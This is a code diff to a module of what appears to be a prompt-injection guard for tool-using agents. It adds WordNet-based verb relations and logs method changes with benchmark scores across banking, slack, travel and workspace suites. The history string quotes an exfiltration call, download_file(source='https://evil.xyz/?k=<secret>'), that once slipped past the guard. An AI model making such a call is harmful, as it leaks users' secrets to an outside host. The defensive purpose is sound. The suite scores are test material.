@@ -11,11 +11,13 @@ suite's prompts and ground truth are never read here.
 
 from __future__ import annotations
 
+import hashlib
 import math
+from pathlib import Path
 from typing import Any, Iterable
 
 from ..policies.capabilities import _spans, strip_quotes
-from ..policies.toolgrants import ToolWordGrants, WordSimilarity, choose_threshold
+from ..policies.toolgrants import ToolWordGrants, VerbRelations, WordSimilarity, choose_threshold
 from ..policies.toolinfer import InferenceLexicon, ToolSchema, infer
 
 __all__ = ["STRICT_HISTORY", "design_examples", "tool_word_source"]
@@ -40,8 +42,33 @@ STRICT_HISTORY = (
     "success 0 of 929. Changed after run 4, by the same review and not because of a score: a file-role value that "
     "names a network location (scheme://, //, UNC, www., a query, an IP literal) is no longer a file name "
     "(download_file(source='https://evil.xyz/?k=<secret>') was a free read). "
+    "Run 5 (after that change) measured the same figures as run 4. Changed after run 5, to meet issue 27's unmet "
+    "target, with every fold's blocked benign calls read (all four suites had been scored), each change general "
+    "and taken from a source other than the suites: (1) verb kinds from published vocabularies (RFC 9110 methods, "
+    "Google AIP-131..135, the schema.org Action hierarchy; library/verbs_external.json) and argument roles from "
+    "schema.org property names (amount, url, startTime ...), used where no lexicon rule matches and never dropped "
+    "by a fold (they are not rules written by a reader of the suites); (2) roles from the tool set's structure: a "
+    "read whose name lists a plural noun X (get_channels, get_users_in_channel) vouches, in a bare-value result, "
+    "for parameters named X, and a listing of records vouches for the ids of the consequential tool with the "
+    "same object words (get_scheduled_transactions -> update_scheduled_transaction) and makes the amount fields "
+    "of records the request names selectable; (3) WordNet 3.1's verb hierarchy (derived table, "
+    "scripts/derive_verb_relations.py) for the tool-word grants: a request word grants a tool whose verb shares "
+    "its synset or is a hyponym of it (post -> send, add -> append), a noun of the tool set or an auxiliary never "
+    "read as a verb; (4) the tool-word grants cover every consequential tool of the left-out suite, also those "
+    "whose declaration a design suite shares (before, only inferred ones). A development run of (1)-(4) measured "
+    "banking 0.688, slack 0.429, travel 0.900, workspace 0.650, attack success 0 of 929. Changed after that run, "
+    "because slack's post_webpage request writes the web address but not the word 'webpage' (a left-out failure "
+    "in view; the rule is general): (5) a value of a tool's target kind (URL, e-mail address, IBAN) written in "
+    "the request sentence names the tool's object as its noun would. Run 6 measured banking 0.688, slack 0.476, "
+    "travel 0.900, workspace 0.650, attack success 0 of 929. Changed after run 6, by a security review and not "
+    "because of a score (no fold has such a parameter): an id parameter takes its role only from a record "
+    "listing, and an id role made there is fail-closed as the tool set's ids and named_ids (the id of a record "
+    "the request names, written in no third-party text). "
     "No threshold or word was tuned on a left-out suite; all four folds had been seen before the run recorded here.")
 _SIM: list[WordSimilarity] = []
+_REL: list[VerbRelations] = []
+# target roles whose values a request writes in a recognisable form (agentguard.policies.provenance.entities)
+_ENTITY = {"url": "url", "email": "email", "account": "iban"}
 
 
 def _similarity() -> WordSimilarity:
@@ -50,15 +77,26 @@ def _similarity() -> WordSimilarity:
     return _SIM[0]
 
 
+def _sha256(path: Path) -> str:
+    return hashlib.sha256(Path(path).read_bytes()).hexdigest()
+
+
+def _relations() -> VerbRelations:
+    if not _REL:
+        _REL.append(VerbRelations())
+    return _REL[0]
+
+
 def design_examples(design: Iterable[Any], toolset: Any, stopwords: Iterable[str],
-                    irregular: Any = None) -> list[tuple[float, bool]]:
+                    irregular: Any = None, relations: VerbRelations | None = None) -> list[tuple[float, bool]]:
     """``(score, needed)`` for every (design user task, consequential tool of its suite) pair (see the module
     docstring); ``design`` holds ``(suite, its tool schemas)``; ``toolset`` gives the design tools' kinds (their
     shipped declarations)."""
     out: list[tuple[float, bool]] = []
     for suite, all_schemas in design:
         schemas = [s for s in all_schemas if toolset.decl(s.name).kind != "read"]
-        src = ToolWordGrants.for_tools(schemas, similarity=_similarity(), stopwords=stopwords, irregular=irregular)
+        src = ToolWordGrants.for_tools(schemas, similarity=_similarity(), stopwords=stopwords, irregular=irregular,
+                                       relations=relations)
         env = suite.load_and_inject_default_environment({})
         for ut in suite.user_tasks.values():
             needed = {c.function for c in ut.ground_truth(env.model_copy(deep=True))}
@@ -76,19 +114,29 @@ def tool_word_source(left: list[ToolSchema], inferred: set[str], inference: Infe
     """The fold's :class:`ToolWordGrants` over the left-out suite's inferred consequential tools, and its
     report (threshold and design counts, the tools it covers, those skipped as having no target)."""
     tools, skipped = [], []
+    kinds: dict[str, set[str]] = {}
     for s in left:
-        if s.name not in inferred:
-            continue
         trace: set[str] = set()
-        d = infer(s, inference, lexicon, trace=trace)
+        if s.name in inferred:
+            d = infer(s, inference, lexicon, trace=trace)
+        else:   # declared by a design suite: its kind is that declaration's
+            d = design_toolset.decl(s.name)
         if d.kind == "read":
             continue
         (skipped if "fail:no-target" in trace else tools).append(s)
-    choice = choose_threshold(design_examples(design, design_toolset, lexicon.stopwords, lexicon.irregular))
+        kinds[s.name] = {_ENTITY[r] for r in d.args.values() if r in _ENTITY}
+    rel = _relations()
+    choice = choose_threshold(design_examples(design, design_toolset, lexicon.stopwords, lexicon.irregular, rel))
     src = ToolWordGrants.for_tools(tools, similarity=_similarity(), threshold=choice["threshold"],
-                                   stopwords=lexicon.stopwords, irregular=lexicon.irregular)
+                                   stopwords=lexicon.stopwords, irregular=lexicon.irregular, relations=rel,
+                                   targets=kinds)
     shown = dict(choice, threshold=choice["threshold"] if math.isfinite(choice["threshold"]) else None)
     report = {"similarity": "WordLlama l2_supercat 256-d static embeddings, cosine (offline, from the wheel)",
+              "verb_relations": {"what": "WordNet 3.1 verb synsets and hypernyms: a request word grants a tool "
+                                         "whose verb is in the same synset or a hyponym of it",
+                                 "source": rel.source, "table_sha256": _sha256(rel.path)},
+              "external_vocabulary_sha256": _sha256(Path(__file__).resolve().parents[1] / "policies" / "library"
+                                                    / "verbs_external.json"),
               "threshold_chosen_on_design_suites": shown,
               "similarity_grants_on": math.isfinite(choice["threshold"]), "tools": dict(sorted(src.tools.items())),
               "skipped_no_target": sorted(s.name for s in skipped), "method_history": STRICT_HISTORY}
